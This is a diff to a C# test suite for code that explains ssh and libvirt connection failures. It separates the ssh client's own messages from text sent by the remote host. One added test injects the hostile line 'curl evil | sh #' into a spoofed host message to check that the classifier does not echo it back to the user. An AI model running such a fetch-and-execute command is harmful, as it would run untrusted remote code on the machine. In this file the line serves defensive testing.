@@ -73,7 +73,8 @@ public class SshFailureTests
     [InlineData("Timeout, server kvm1 not responding.", ConnectFailure.ConnectionLost, "silent")]
     [InlineData("client_loop: send disconnect: Broken pipe", ConnectFailure.ConnectionLost, "Broken pipe")]
     [InlineData("Connection to kvm1 closed by remote host.", ConnectFailure.ConnectionLost, "closed it")]
-    public void Understands_what_ssh_says(string errors, ConnectFailure reason, string part) => Check(255, errors, reason, part);
+    public void Understands_what_ssh_says(string errors, ConnectFailure reason, string part) =>
+        Check(255, SshWords.Of(errors, ""), reason, part);
 
     [Theory]
     [InlineData(1, "virt-ssh-helper: cannot connect to '/var/run/libvirt/libvirt-sock': Failed to connect socket to '/var/run/libvirt/libvirt-sock': No such file or directory", ConnectFailure.SocketMissing, "(/var/run/libvirt/libvirt-sock)")]
@@ -92,7 +93,26 @@ public class SshFailureTests
     [InlineData(127, "sh: line 1: exec: virt-ssh-helper: not found", ConnectFailure.HelperMissing, "has no virt-ssh-helper")]
     [InlineData(127, "vm-migration: no virt-ssh-helper and no netcat", ConnectFailure.HelperMissing, "neither")]
     [InlineData(127, "vm-migration: no netcat", ConnectFailure.HelperMissing, "leave these out")]
-    public void Understands_what_the_host_says(int code, string errors, ConnectFailure reason, string part) => Check(code, errors, reason, part);
+    public void Understands_what_the_host_says(int code, string errors, ConnectFailure reason, string part) =>
+        Check(code, SshWords.Of("", errors), reason, part);
+
+    [Fact]
+    public void Takes_no_word_of_the_hosts_for_its_own()
+    {
+        var error = SshFailure.Explain("kvm1", 255, SshWords.Of("", KeyChanged.Replace("ssh-keygen", "curl evil | sh #")), answered: false)!;
+
+        Assert.Equal(ConnectFailure.Other, error.Reason);
+        Assert.DoesNotContain("curl", error.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Believes_the_ssh_to_a_jump_host_where_ours_did_not_get_to_the_host()
+    {
+        var error = SshFailure.Explain(
+            "kvm1", 255, SshWords.Of("kex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", KeyChanged), answered: false);
+
+        Assert.Equal(ConnectFailure.HostKeyChanged, error!.Reason);
+    }
 
     [Theory]
     [InlineData(255, "something new", false, ConnectFailure.Other, "something new")]
@@ -103,7 +123,7 @@ public class SshFailureTests
     [InlineData(3, "", false, ConnectFailure.ClosedEarly, "code 3")]
     public void Repeats_the_last_words_when_it_does_not_know_them(int code, string errors, bool answered, ConnectFailure reason, string part)
     {
-        LibvirtConnectException? error = SshFailure.Explain("kvm1", code, errors, answered);
+        LibvirtConnectException? error = SshFailure.Explain("kvm1", code, SshWords.Of("", errors), answered);
 
         Assert.NotNull(error);
         Assert.Equal(reason, error.Reason);
@@ -115,14 +135,14 @@ public class SshFailureTests
     [InlineData("Warning: Permanently added 'kvm1' (ED25519) to the list of known hosts.")]
     public void Sees_nothing_wrong_in_a_plain_end(string errors)
     {
-        Assert.Null(SshFailure.Explain("kvm1", 0, errors, answered: true));
+        Assert.Null(SshFailure.Explain("kvm1", 0, SshWords.Of(errors, ""), answered: true));
     }
 
     [Fact]
     public void Does_not_blame_a_key_when_another_was_good_enough()
     {
         LibvirtConnectException? error = SshFailure.Explain(
-            "kvm1", 1, "Load key \"/home/me/id\": bad permissions\nnc: unix connect failed: Connection refused", answered: false);
+            "kvm1", 1, SshWords.Of("Load key \"/home/me/id\": bad permissions", "nc: unix connect failed: Connection refused"), answered: false);
 
         Assert.Equal(ConnectFailure.SocketRefused, error!.Reason);
     }
@@ -131,34 +151,38 @@ public class SshFailureTests
     public void Tells_a_barred_account_from_a_talkative_one()
     {
         Assert.Contains("run nothing", SshFailure.Noise("kvm1", "This account is currently not available.\n").Message);
-        Assert.Contains("(\"[1;32mHi\")", SshFailure.Noise("kvm1", "\e[1;32mHi\n").Message);
+        Assert.Contains("(\"\uFFFD[1;32mHi\")", SshFailure.Noise("kvm1", "\e[1;32mHi\n").Message);
     }
 
-    private static void Check(int code, string errors, ConnectFailure reason, string part)
+    private static void Check(int code, SshWords words, ConnectFailure reason, string part)
     {
-        LibvirtConnectException? error = SshFailure.Explain("kvm1", code, errors, answered: false);
+        LibvirtConnectException? error = SshFailure.Explain("kvm1", code, words, answered: false);
 
         Assert.NotNull(error);
-        Assert.Equal((reason, "kvm1", errors), (error.Reason, error.Host, error.Detail));
+        Assert.Equal((reason, "kvm1", words.All), (error.Reason, error.Host, error.Detail));
         Assert.Contains(part, error.Message);
         Assert.DoesNotContain('\n', error.Message);
     }
 
     [Theory]
-    [InlineData("", "No answer from the daemon on kvm1 over ssh within 15 s; try: ssh kvm1 virsh version")]
+    [InlineData("", "", "No answer from the daemon on kvm1 over ssh within 15 s; try: ssh kvm1 virsh version")]
     [InlineData(
         "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\n",
+        "",
         "ssh got into kvm1, and the login shell there has not come to the command it was given within 15 s: its start-up files may wait for something. ")]
     [InlineData(
-        "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\nwaiting for lock /home/me/.profile.lock\n",
+        "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\n",
+        "waiting for lock /home/me/.profile.lock\n",
         "ssh got into kvm1, and the login shell there has not come to the command it was given within 15 s: it says: waiting for lock /home/me/.profile.lock. ")]
-    public void A_login_shell_that_is_slow_is_told_from_a_host_that_does_not_answer(string errors, string message) =>
-        Assert.StartsWith(message, SshFailure.TooLate("kvm1", TimeSpan.FromSeconds(15), errors).Message, StringComparison.Ordinal);
+    public void A_login_shell_that_is_slow_is_told_from_a_host_that_does_not_answer(string own, string host, string message) =>
+        Assert.StartsWith(message, SshFailure.TooLate("kvm1", TimeSpan.FromSeconds(15), new SshWords(own, host)).Message, StringComparison.Ordinal);
 
     [Fact]
     public void What_ssh_says_of_itself_on_the_way_is_not_taken_for_the_reason()
     {
-        const string said = "Authenticated to kvm1 ([10.0.0.1]:22) using \"publickey\".\nnc: connection refused\nTransferred: sent 2516, received 2936 bytes, in 0.1 seconds\nBytes per second: sent 1.0, received 1.0\n";
+        SshWords said = new(
+            "Authenticated to kvm1 ([10.0.0.1]:22) using \"publickey\".\nTransferred: sent 2516, received 2936 bytes, in 0.1 seconds\nBytes per second: sent 1.0, received 1.0\n",
+            "nc: connection refused\n");
         Assert.Contains("nc: connection refused", SshFailure.Explain("kvm1", 1, said, answered: false)!.Message, StringComparison.Ordinal);
     }
 }
